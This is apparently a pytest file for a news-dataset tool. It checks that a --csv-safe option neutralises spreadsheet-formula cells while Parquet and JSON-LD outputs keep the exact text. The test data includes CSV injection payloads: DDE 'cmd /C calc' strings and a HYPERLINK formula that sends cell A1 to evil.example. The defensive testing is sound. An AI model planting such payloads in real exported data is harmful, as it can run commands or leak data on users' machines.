"""`--csv-safe`: CSV text cells a spreadsheet would run as a formula get a leading `'`;
numbers, dates and lists are untouched, and Parquet and JSON-LD keep the exact text."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from typer.testing import CliRunner

from newsfacts.cli import app
from newsfacts.publish.csv import FORMULA_STARTS, table_to_csv
from newsfacts.publish.parquet import read_parquet_table
from newsfacts.schemas import load_schemas

FORMULAS = ['=HYPERLINK("http://x.example","click")', "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1)", "\tTAB", "\rCR"]


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_only_text_cells_that_start_like_a_formula_are_prefixed() -> None:
    table = pa.table({
        "text": [*FORMULAS, "plain", "a = b", "'quoted already"],
        "number": pa.array([-1.5] * 9, pa.float64()),
        "day": pa.array([dt.date(2017, 7, 11)] * 9, pa.date32()),
        "names": pa.array([["=x", "-y"]] * 9, pa.list_(pa.string())),
    })
    exact, safe = _rows(table_to_csv(table))[1:], _rows(table_to_csv(table, csv_safe=True))[1:]
    assert [r[0] for r in exact] == table.column("text").to_pylist()  # default: exact text
    assert [r[0] for r in safe] == ["'" + f for f in FORMULAS] + [
        "plain", "a = b", "'quoted already"]
    assert {tuple(r[1:]) for r in safe} == {("-1.5", "2017-07-11", '["=x","-y"]')}
    assert {f[0] for f in FORMULAS} == set(FORMULA_STARTS)  # every start promised is tested


def hostile_seeds(seeds_dir: Path, folder: Path) -> list[str]:
    """The seeds with headlines a spreadsheet would run; returns the headlines."""
    folder.mkdir()
    titles = ['=HYPERLINK("http://evil.example/?"&A1,"Maduro Travels to Russia")',
              "@SUM(1+1)*cmd|' /C calc'!A0 Maduro and Putin Talk Cooperation via Telephone"]
    for path, title in zip(sorted(seeds_dir.glob("*.txt")), titles, strict=True):
        lines = path.read_text(encoding="utf-8").split("\n")
        (folder / path.name).write_text("\n".join([title, *lines[1:]]), encoding="utf-8")
    return titles


def test_build_with_csv_safe_keeps_parquet_and_jsonld_exact(seeds_dir: Path,
                                                             tmp_path: Path) -> None:
    titles = hostile_seeds(seeds_dir, tmp_path / "hostile")
    result = CliRunner().invoke(app, ["build", "--source", str(tmp_path / "hostile"), "--out",
                                      str(tmp_path / "out"), "--csv-safe"])
    assert result.exit_code == 0, result.output  # datapackage and croissant still validate
    release = tmp_path / "out" / "newsfacts" / "v0001"
    prefixed = 0
    for name, schema in load_schemas().items():  # every text cell of every table
        exact = read_parquet_table(release, schema)
        assert exact is not None
        rows = _rows((release / f"{name}.csv").read_text(encoding="utf-8"))
        for position, column in enumerate(rows[0]):
            if not pa.types.is_string(exact.schema.field(column).type):
                continue
            cells = [row[position] for row in rows[1:]]
            values = exact.column(column).to_pylist()
            assert cells == ["" if v is None else "'" + v if v.startswith(FORMULA_STARTS)
                             else v for v in values], (name, column)
            prefixed += sum(v is not None and v.startswith(FORMULA_STARTS) for v in values)
    assert prefixed == 3  # the two headlines and "- Advertisement -" (boilerplate)
    assert sorted(pq.read_table(release / "articles.parquet").column("title").to_pylist()) == \
        sorted(titles)
    graph = json.loads((release / "newsfacts.jsonld").read_text(encoding="utf-8"))["@graph"]
    assert sorted(n["headline"] for n in graph if n.get("@type") == "NewsArticle") == \
        sorted(titles)
    assert json.loads((release / "run.json").read_text())["settings"]["csv_safe"] is True
    assert "built with `--csv-safe`" in (release / "README.md").read_text()


def test_wide_rows_are_written_a_few_at_a_time_with_the_same_text(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """Slices hold about CSV_SLICE_BYTES of Arrow data (whole bodies make wide rows); the text
    does not depend on where the slices fall."""
    from newsfacts.publish import csv as csv_module

    table = pa.table({"id": [f"a{i}" for i in range(7)],
                      "body": [f"Paragraph {i}, \"quoted\".\n" * 200 for i in range(7)]})
    whole = table_to_csv(table)
    assert csv_module.slice_rows(table) >= 7  # one slice
    monkeypatch.setattr(csv_module, "CSV_SLICE_BYTES", table.nbytes // 3)
    assert csv_module.slice_rows(table) == 2
    assert len(list(csv_module.csv_lines(table))) == 4 + 1  # 2, 2, 2 and 1 rows, then the rest
    assert table_to_csv(table) == whole
    monkeypatch.setattr(csv_module, "CSV_SLICE_BYTES", 1)
    assert csv_module.slice_rows(table) == 1
    assert table_to_csv(table) == whole
    assert csv_module.slice_rows(table.slice(0, 0)) == csv_module.CSV_SLICE_ROWS
